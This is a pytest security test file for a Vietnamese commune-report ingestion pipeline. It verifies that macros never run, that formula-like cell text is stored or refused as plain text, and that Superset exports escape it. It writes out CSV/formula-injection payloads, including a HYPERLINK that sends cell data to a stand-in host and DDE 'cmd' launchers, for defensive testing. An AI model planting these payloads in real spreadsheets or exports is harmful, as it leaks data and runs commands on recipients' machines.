"""Macros and formula-like text: nothing in a file is ever executed or evaluated, and text that
a spreadsheet would run (`=`, `+`, `-`, `@` first) is stored as the text it is, answered in
plain-text files only, and escaped wherever the platform exports a spreadsheet or CSV.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest

from ingest.intake.engine import ingest_paths
from ioc.settings import PROJECT_ROOT
from tests.faults.ledger import LEDGER
from tests.security import hostile as h

NOW = datetime(2025, 3, 1, 3, 0, tzinfo=UTC)
INJECTIONS = {
    "H10": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "H11": "+cmd|' /C calc'!A0",
    "H12": "-2+3+cmd|' /C notepad'!A0",
    "H13": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H14": "=1+1",
}


def _ingest(root: Path, tmp: Path, url: str):
    return ingest_paths([root], conninfo=url, archive_dir=tmp / "archive", intake_root=root,
                        now=NOW)


def test_macros_are_never_run_and_the_workbook_is_read_as_data(tmp_path: Path,
                                                               fresh_db_url: str) -> None:
    marker = tmp_path / "macro-ran.txt"
    root = tmp_path / "intake"
    path = root / "xa-hiep-thuan" / "KTXH-01_xa-hiep-thuan_2024-10.xlsm"
    path.parent.mkdir(parents=True)
    path.write_bytes(h.macro_xlsm(marker))
    [r] = _ingest(root, tmp_path, fresh_db_url)
    LEDGER.hostile(".xlsm with an auto-run macro (vbaProject.bin)")
    assert r.status == "accepted" and len(r.records) == 17
    assert not marker.exists()
    # the archive keeps the original bytes, read-only and not executable
    archived = Path(r.archive_path)
    assert archived.read_bytes() == path.read_bytes()
    assert archived.stat().st_mode & 0o777 == 0o444
    with psycopg.connect(fresh_db_url) as conn:
        texts = conn.execute("select string_agg(coalesce(note, ''), '') "
                             "from raw_intake.ktxh01_value").fetchone()[0]
    assert "Workbook_Open" not in texts and "Shell" not in texts


def test_formula_text_in_notes_is_stored_as_text(tmp_path: Path, fresh_db_url: str) -> None:
    root = tmp_path / "intake"
    path = root / "xa-hiep-thuan" / "KTXH-01_xa-hiep-thuan_2024-10.xlsx"
    path.parent.mkdir(parents=True)
    path.write_bytes(h.with_cells(INJECTIONS))
    [r] = _ingest(root, tmp_path, fresh_db_url)
    LEDGER.hostile("text cells starting with = + - @ (notes)", len(INJECTIONS))
    assert r.status == "accepted", r.errors
    with psycopg.connect(fresh_db_url) as conn:
        notes = {row: note for row, note in conn.execute(
            "select source_row, note from raw_intake.ktxh01_value where note is not null")}
    assert notes == {int(ref[1:]): text for ref, text in INJECTIONS.items()}


def test_formula_text_in_a_number_cell_is_refused_and_quoted_back_as_plain_text(
        tmp_path: Path, fresh_db_url: str) -> None:
    root = tmp_path / "intake"
    path = root / "xa-hiep-thuan" / "KTXH-01_xa-hiep-thuan_2024-10.xlsx"
    path.parent.mkdir(parents=True)
    cells = {"F10": "=1+1", "F11": "+1+1", "F12": "@SUM(1,1)", "F13": "-1+1"}
    path.write_bytes(h.with_cells(cells))
    [r] = _ingest(root, tmp_path, fresh_db_url)
    LEDGER.hostile("text cells starting with = + - @ (number columns)", len(cells))
    assert r.status == "rejected"
    refused = {e["row"]: e["value"] for e in r.errors if e["code"] == "not_a_number"}
    assert refused == {int(ref[1:]): text for ref, text in cells.items()}
    answers = list((root / "xa-hiep-thuan" / "_phan_hoi").iterdir())
    assert [a.suffix for a in answers] == [".txt"]  # answers are plain text, never a sheet
    text = answers[0].read_text(encoding="utf-8-sig")
    for value in cells.values():
        assert f"Giá trị trong tệp: {value}" in text


def test_a_formula_is_read_as_its_cached_value_never_evaluated(tmp_path: Path) -> None:
    """KT01's month written as a formula whose cached result is 412.5: that is the value,
    whatever the formula would compute (1+1) — the engine never evaluates."""
    from ingest.intake.engine import check_paths

    root = tmp_path / "intake"
    path = root / "xa-hiep-thuan" / "KTXH-01_xa-hiep-thuan_2024-10.xlsx"
    path.parent.mkdir(parents=True)
    path.write_bytes(h.with_cells({"F10": ("1+1", "412.5")}))
    [r] = check_paths([path], intake_root=root, now=NOW)
    LEDGER.hostile("formula whose cached value differs from its result")
    assert r.status == "accepted"
    assert {x["indicator_code"]: x["value"] for x in r.records}["KT01"] == Decimal("412.5")


# --- what the platform writes back -------------------------------------------------------------

WRITERS = re.compile(r"\bcsv\.(?:writer|DictWriter)\b|\.to_csv\(|\.to_excel\(|ExcelWriter|"
                     r"\bxlsxwriter\b|\bopenpyxl\b|\bwrite_csv\b")
# Modules allowed to write spreadsheets or CSV, and why none of them writes back text that
# came from a file or the warehouse:
WRITER_ALLOWED = (
    # the demo world's generator writes *inputs* (reports a commune would send); its
    # demo-setup (demo/setup.py) appends to _arrivals.csv: paths and times it made itself
    "demo/",
    # `ioc units build` writes a unit list from the official packages' names and codes and
    # refuses a value that starts like a formula (tests/units/test_official_lists.py)
    "ingest/units.py",
    # dbt's forms.csv seed from the contracts; a value that starts like a formula is refused
    # (tests/test_catalogue_of_sources.py::test_a_title_that_would_run_as_a_formula_is_refused)
    "ingest/catalogue.py",
    # blank templates: text from the contracts and seeds only, written as strings, and a
    # value that starts like a formula refuses the template
    # (tests/upload/test_template.py::test_catalogue_text_that_would_run_as_a_formula_is_refused)
    "ingest/template.py",
)


def test_no_module_writes_a_spreadsheet_or_csv_back() -> None:
    """The intake answers in .txt; nothing else of the pipeline exports a spreadsheet or CSV
    (Superset does, and escapes: next test). A new writer must escape =,+,-,@ first and be
    listed here with the test that proves it."""
    offenders = []
    for root in ("ioc", "ingest", "orchestration", "cli", "backup", "upload",
                 "superset/ioc_superset", "demo"):
        for path in sorted((PROJECT_ROOT / root).rglob("*.py")):
            rel = path.relative_to(PROJECT_ROOT).as_posix()
            if rel.startswith(WRITER_ALLOWED):
                continue
            hits = WRITERS.findall(path.read_text(encoding="utf-8"))
            if hits:
                offenders.append((rel, sorted(set(hits))))
    assert offenders == []


@pytest.mark.superset
def test_superset_escapes_formula_text_in_csv_and_excel_exports(superset_server,
                                                               slice_rows) -> None:
    """Any text a chart exports that starts with =, +, -, @ gets a leading quote (Superset's
    CSV and Excel exports), so a commune's '=HYPERLINK(...)' never runs on a leader's PC."""
    import io

    import openpyxl

    LEDGER.hostile("formula text through Superset CSV/Excel export", 2)
    with superset_server.client() as admin:
        admin.csrf_token()
        (ds,) = [d for d in admin.list_all("dataset", ["id", "table_name", "schema"])
                 if d["table_name"] == "fct_chi_tieu_thang"
                 and d["schema"] == "mart_kinh_te_xa_hoi"]
        # the text as a SQL expression of a row (a bare constant cannot be grouped by)
        columns = [{"label": f"c{i}", "expressionType": "SQL",
                    "sqlExpression": "'" + v.replace("'", "''") + "' || left(org_unit_id, 0)"}
                   for i, v in enumerate(INJECTIONS.values())]
        query = {"datasource": {"id": ds["id"], "type": "table"},
                 "queries": [{"columns": columns, "metrics": [], "row_limit": 1,
                              "orderby": []}]}
        csv_text = admin.http.post("/api/v1/chart/data",
                                   json={**query, "result_format": "csv",
                                         "result_type": "full"})
        assert csv_text.status_code == 200, csv_text.text[:500]
        import csv

        _header, row = list(csv.reader(io.StringIO(csv_text.content.decode("utf-8-sig")),
                                      escapechar="\\"))
        assert len(row) == len(INJECTIONS)
        for cell, value in zip(row, INJECTIONS.values(), strict=True):
            # quoted (and pipes escaped): no cell starts with a character a sheet would run
            assert cell[0] == "'" and cell[1:].replace("\\|", "|") == value, cell
        xlsx = admin.http.post("/api/v1/chart/data",
                               json={**query, "result_format": "xlsx", "result_type": "full"})
        assert xlsx.status_code == 200
        ws = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
        cells = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        for value in INJECTIONS.values():
            assert f"'{value}" in cells and value not in cells
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
